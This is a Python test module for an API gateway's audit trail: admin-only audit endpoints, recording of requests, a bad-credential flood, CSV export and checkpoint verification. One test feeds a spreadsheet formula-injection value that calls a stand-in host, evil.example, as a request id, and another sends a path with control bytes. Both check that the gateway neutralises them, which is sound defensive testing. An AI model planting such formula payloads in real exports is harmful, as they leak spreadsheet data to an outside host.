"""The audit trail through a running gateway: access events, the admin-only audit API, and its params.

One gateway (with the ledger role, whose recorder follows the stores) serves the whole module;
each test reads the trail through the API, waiting for the ~100 ms batches to land.
"""

from __future__ import annotations

import csv
import io
import time
from collections.abc import Callable, Iterator
from datetime import timedelta

import httpx
import pytest
from cryptography.hazmat.primitives.serialization import load_pem_public_key

from domain.audit import key_id
from infra.audit_keys import load_signing_key
from testkit.simulator.server import Simulator
from tests.support.gateway import ADMIN_TOKEN, RunningGateway, openai_error, running_gateway, sim_config

ADMIN_ACTOR = f"admin:{ADMIN_TOKEN[:6]}…"  # the admin token's actor: its first characters only
ENDPOINTS = ["/api/admin/audit", "/api/admin/audit/verify", "/api/admin/audit/public-key",
             "/api/admin/users/bob/access"]


@pytest.fixture(scope="module")
def gw(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunningGateway]:
    with Simulator(port=0) as sim, running_gateway(tmp_path_factory.mktemp("gw-audit"),
                                                   sim_config(sim.base_url)) as gateway:
        # refusals are counted per second here, not per minute, so tests see them soon
        gateway.system.ctx.access_audit.window = timedelta(seconds=1)
        yield gateway


@pytest.fixture(scope="module")
def bob(gw: RunningGateway) -> str:
    return gw.setup_user("bob")


@pytest.fixture
def admin(gw: RunningGateway) -> Iterator[httpx.Client]:
    with gw.client(ADMIN_TOKEN) as client:
        yield client


def wait_for(admin: httpx.Client, params: dict, found: Callable[[list[dict]], bool],
             timeout_s: float = 10) -> list[dict]:
    deadline = time.monotonic() + timeout_s
    while True:
        response = admin.get("/api/admin/audit", params={"limit": 1000, **params})
        assert response.status_code == 200, response.text
        entries = response.json()["entries"]
        if found(entries):
            return entries
        assert time.monotonic() < deadline, f"not in the trail after {timeout_s} s: {entries[:5]}"
        time.sleep(0.05)


def test_users_are_refused_every_audit_endpoint_and_callers_without_a_token_are_401(gw, bob, admin) -> None:
    with gw.client(bob) as user:
        for path in ENDPOINTS:
            openai_error(user.get(path), 403, "admin_required")
            openai_error(user.get(path, params={"full": "true", "format": "csv"}), 403, "admin_required")
    for path in ENDPOINTS:
        openai_error(httpx.get(gw.url + path), 401)
        assert admin.get(path).status_code == 200, path
    denied = wait_for(admin, {"type": "AccessDenied", "actor": "user:bob"},
                      lambda found: {e["details"]["path"] for e in found} >= {
                          "/api/admin/audit", "/api/admin/users/{user_id}/access"})
    assert all(e["details"]["status"] == 403 for e in denied)


def test_mutating_requests_are_recorded_with_actor_template_target_status_and_request_id(
        gw, bob, admin) -> None:
    with gw.client(bob) as user:
        made = user.post("/api/keys", json={"name": "mine", "models": ["sim"]},
                         headers={"x-request-id": "r-42"})
    assert made.status_code == 201 and made.headers["x-request-id"] == "r-42"
    revoked = admin.delete(f"/api/keys/{made.json()['id']}")
    assert revoked.status_code == 200 and revoked.headers["x-request-id"].startswith("req-")
    missing = admin.delete("/api/keys/00000000-0000-0000-0000-000000000000")
    assert missing.status_code == 404
    entries = wait_for(admin, {"type": "AdminActionPerformed"},
                       lambda found: sum(e["details"]["path"] == "/api/keys/{key_id}" for e in found) >= 2)
    by_request = {e["request_id"]: e for e in entries}
    mine = by_request["r-42"]
    assert (mine["actor"], mine["details"], mine["source_ip"]) == (
        "user:bob", {"method": "POST", "path": "/api/keys", "status": 201}, "127.0.0.1")
    gone = by_request[revoked.headers["x-request-id"]]
    assert (gone["actor"], gone["target"], gone["details"]["status"]) == (
        ADMIN_ACTOR, f"key:{made.json()['id']}", 200)
    assert by_request[missing.headers["x-request-id"]]["details"]["status"] == 404


def test_a_flood_of_bad_credentials_on_v1_and_api_adds_a_few_counted_entries(gw) -> None:
    time.sleep(1.5)  # earlier tests' 401s land with their own (one-second) window, not in this count
    before = _auth_failures(gw)
    with httpx.Client(base_url=gw.url, timeout=30) as http:
        started = time.monotonic()
        for n in range(1500):
            bad = {"authorization": f"Bearer sk-ml-guess{n:040d}"}
            assert http.post("/v1/chat/completions", headers=bad, json={"model": "sim"}).status_code == 401
            assert http.get("/api/keys", headers=bad).status_code == 401
        seconds = time.monotonic() - started
    deadline = time.monotonic() + 10
    new = _auth_failures(gw)[len(before):]
    while sum(e.entry.details["count"] for e in new) < 3000:
        assert time.monotonic() < deadline, new
        time.sleep(0.05)
        new = _auth_failures(gw)[len(before):]
    assert sum(e.entry.details["count"] for e in new) == 3000
    assert len(new) <= 2 * (seconds + 2), new  # one entry per surface and (one-second) window
    assert {e.entry.details["surface"] for e in new} == {"v1", "api"}
    assert {e.entry.source_ip for e in new} == {"127.0.0.1"}
    assert all("guess" not in str(e.as_record()) for e in new)


def _auth_failures(gw: RunningGateway) -> list:
    return [r for r in gw.system.audit.records() if r.entry.action == "AuthFailed"]


def test_search_pages_newest_first_with_an_opaque_cursor_and_the_same_rows_as_csv(gw, admin) -> None:
    pages, cursor = [], None
    while True:
        paging = {"cursor": cursor} if cursor else {}
        response = admin.get("/api/admin/audit", params={"limit": 7, **paging})
        assert response.status_code == 200
        pages.append(response.json()["entries"])
        cursor = response.json()["next_cursor"]
        if cursor is None:
            break
        assert "seq" not in cursor and not cursor.isdigit()
    seqs = [e["seq"] for page in pages for e in page]
    assert seqs == sorted(seqs, reverse=True) and seqs[-1] == 1 and len(seqs) == len(set(seqs))
    newest = admin.get("/api/admin/audit", params={"limit": 5}).json()["entries"]
    as_csv = admin.get("/api/admin/audit", params={"limit": 5, "format": "csv"})
    assert as_csv.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(as_csv.text)))
    assert [int(r["seq"]) for r in rows][:1] >= [e["seq"] for e in newest][:1]
    assert set(rows[0]) >= {"seq", "time", "actor", "action", "target", "details", "entry_hash"}
    models = admin.get("/api/admin/audit", params={"type": "PriceSet,ModelRegistered", "target": "model:sim"})
    assert {e["action"] for e in models.json()["entries"]} == {"PriceSet", "ModelRegistered"}
    nothing = admin.get("/api/admin/audit", params={"from": "2199-01-01"}).json()
    assert (nothing["entries"], nothing["next_cursor"]) == ([], None)


@pytest.mark.parametrize(("params", "name"), [
    ({"limit": "0"}, "limit"), ({"limit": "1001"}, "limit"), ({"limit": "9" * 5000}, "limit"),
    ({"limit": "ten"}, "limit"), ({"cursor": "not-a-cursor"}, "cursor"), ({"cursor": "x" * 10_000}, "cursor"),
    ({"type": "Key Revoked"}, "type"), ({"type": ","}, "type"), ({"type": ",".join(["A"] * 21)}, "type"),
    ({"from": "yesterday"}, "from"), ({"to": "9999-12-31T23:59:59-23:59"}, "to"),
    ({"from": "2025-03-02", "to": "2025-03-01"}, "to"), ({"actor": "a" * 201}, "actor"),
    ({"target": "line\nbreak"}, "target"), ({"format": "xml"}, "format"),
])
def test_bad_search_parameters_are_400s_that_name_the_parameter(admin, params, name) -> None:
    error = openai_error(admin.get("/api/admin/audit", params=params), 400)
    assert error["param"] == name, error


def test_verify_reports_ok_from_the_last_checkpoint_or_the_whole_chain_and_refuses_a_bad_flag(
        gw, admin) -> None:
    gw.system.audit.checkpoint()
    since = admin.get("/api/admin/audit/verify").json()
    full = admin.get("/api/admin/audit/verify", params={"full": "true"}).json()
    assert since["ok"] and full["ok"]
    assert (since["scope"], full["scope"]) == ("since_last_checkpoint", "full")
    assert full["entries"] >= since["entries"] and full["last_checkpoint"] is not None
    assert full["checkpoint_status"]["overdue"] is False
    assert openai_error(admin.get("/api/admin/audit/verify", params={"full": "yes"}), 400)["param"] == "full"
    pem = admin.get("/api/admin/audit/public-key")
    published = load_pem_public_key(pem.content)
    signing = load_signing_key(gw.system.settings.audit_key_path)
    assert key_id(published) == key_id(signing.public_key()) == full["last_checkpoint"]["key_id"]


def test_a_users_access_lists_their_keys_with_state_and_the_entries_that_changed_them(gw, admin) -> None:
    gw.setup_user("carol")
    kept, lost = gw.issue_key("carol"), gw.issue_key("carol")
    assert admin.delete(f"/api/keys/{lost['id']}").status_code == 200
    assert admin.delete("/api/admin/users/carol").status_code == 200
    deadline = time.monotonic() + 10
    while True:
        access = admin.get("/api/admin/users/carol/access").json()
        actions = [(e["action"], e["target"]) for e in access["audit"]]
        if ("UserDeactivated", "user:carol") in actions and len(
                [a for a, _ in actions if a == "KeyRevoked"]) == 2:
            break
        assert time.monotonic() < deadline, actions
        time.sleep(0.05)
    assert access["active"] is False and access["usable_keys"] == 0
    assert {k["id"]: k["status"] for k in access["keys"]} == {kept["id"]: "revoked", lost["id"]: "revoked"}
    assert ("KeyIssued", f"key:{kept['id']}") in actions
    assert ("AdminActionPerformed", "user:carol") in actions
    seqs = [e["seq"] for e in access["audit"]]
    assert seqs == sorted(seqs)
    assert openai_error(admin.get("/api/admin/users/nobody/access"), 404)


def test_a_key_refused_a_model_outside_its_scope_is_an_access_denied_entry_naming_its_prefix(
        gw, bob, admin) -> None:
    key = gw.issue_key("bob", models=["sim"])
    refused = httpx.post(gw.v1 + "/embeddings", headers={"authorization": f"Bearer {key['key']}"},
                         json={"model": "sim-embed", "input": "x"})
    assert refused.status_code == 403
    denied = wait_for(admin, {"type": "AccessDenied", "actor": f"key:{key['prefix']}"}, bool)
    assert denied[0]["details"]["surface"] == "v1" and denied[0]["details"]["path"] == "/v1/embeddings"
    assert key["key"] not in str(denied)


def test_a_mutating_request_to_an_odd_unknown_path_is_answered_and_recorded_cut_short(gw, admin) -> None:
    response = admin.post("/api/%00%1b%ed%a0%80" + "x" * 5000)
    assert response.status_code == 404
    recorded = wait_for(admin, {"type": "AdminActionPerformed", "actor": ADMIN_ACTOR},
                        lambda found: any(e["details"]["status"] == 404 and "xxx" in e["details"]["path"]
                                          for e in found))
    odd = next(e for e in recorded if "xxx" in e["details"]["path"])
    assert len(odd["details"]["path"]) == 200 and odd["details"]["path"].startswith("/api/\x00\x1b")


def test_a_request_id_that_looks_like_a_formula_is_text_in_the_csv_and_the_page_says_its_source(
        gw, admin) -> None:
    formula = '=HYPERLINK("http://evil.example/?"&A1)'
    made = admin.post("/api/admin/teams", json={"team_id": "csv-team", "name": "csv"},
                      headers={"x-request-id": formula})
    assert made.status_code == 201 and made.headers["x-request-id"] == formula
    wait_for(admin, {"type": "AdminActionPerformed"}, lambda found: any(e["request_id"] == formula
                                                                         for e in found))
    page = admin.get("/api/admin/audit", params={"type": "AdminActionPerformed", "format": "csv",
                                                 "limit": 1000})
    rows = list(csv.DictReader(io.StringIO(page.text)))
    assert "'" + formula in {r["request_id"] for r in rows}  # quoted: a spreadsheet shows it as text
    assert formula not in {r["request_id"] for r in rows}
    assert page.headers["x-audit-source"] in {"index", "index+trail", "trail"}
    assert int(page.headers["x-audit-head-seq"]) >= int(page.headers.get("x-audit-indexed-seq", "0"))
    body = admin.get("/api/admin/audit", params={"limit": 1}).json()
    projection = body["projection"]
    assert projection["lag_entries"] == projection["head_seq"] - projection["indexed_seq"] >= 0
    assert body["entries"][0]["seq"] == projection["head_seq"]  # the newest, whatever the lag
